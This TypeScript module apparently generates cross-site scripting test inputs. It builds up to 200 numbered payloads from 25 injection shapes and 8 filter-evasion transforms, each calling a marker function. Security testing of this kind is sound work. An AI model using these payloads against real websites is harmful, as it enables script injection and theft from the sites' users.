/** Scripts that run if a text is inserted into a page verbatim; `N` identifies the payload. */
const SHAPES = [
  "<script>pwned(N)</script>",
  "</script><script>pwned(N)</script>",
  "<img src=x onerror=pwned(N)>",
  '"><img src=x onerror=pwned(N)>',
  "'><svg onload=pwned(N)>",
  "<svg><script>pwned(N)</script></svg>",
  "</title><script>pwned(N)</script>",
  "</textarea><img src=x onerror=pwned(N)>",
  "<iframe srcdoc='<script>parent.pwned(N)</script>'></iframe>",
  "<details open ontoggle=pwned(N)>",
  "<input autofocus onfocus=pwned(N)>",
  "<a href=javascript:pwned(N)>x</a>",
  "javascript:pwned(N)",
  "data:text/html,<script>pwned(N)</script>",
  '" onmouseover=pwned(N) autofocus onfocus=pwned(N) x="',
  "' onfocus='pwned(N)' autofocus='",
  "--><script>pwned(N)</script>",
  "]]><script>pwned(N)</script>",
  "{{constructor.constructor('pwned(N)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of another language
  "${pwned(N)}",
  "<math><mtext><img src=x onerror=pwned(N)></mtext></math>",
  "<style>@import 'javascript:pwned(N)'</style>",
  "<base href=javascript:pwned(N)//>",
  "<object data=javascript:pwned(N)>",
  "<meta http-equiv=refresh content='0;url=javascript:pwned(N)'>",
];

/** Variations that pass a filter for the plain form. */
const DISGUISES: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll("PWNED", "pwned"),
  (text) => text.replaceAll("<", "<\t").replaceAll("<\t/", "</"),
  (text) => text.replaceAll("script", "scr\u00adipt"),
  (text) => text.replaceAll("<", "\u2028<"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "\\u003c"),
  (text) => `${text}${text}`,
];

/** Returns the first `count` payloads, at most 200. */
export const scriptPayloads = (count: number): string[] =>
  DISGUISES.flatMap((disguise) => SHAPES.map(disguise))
    .slice(0, count)
    .map((text, n) => text.replaceAll("N)", `${n})`));
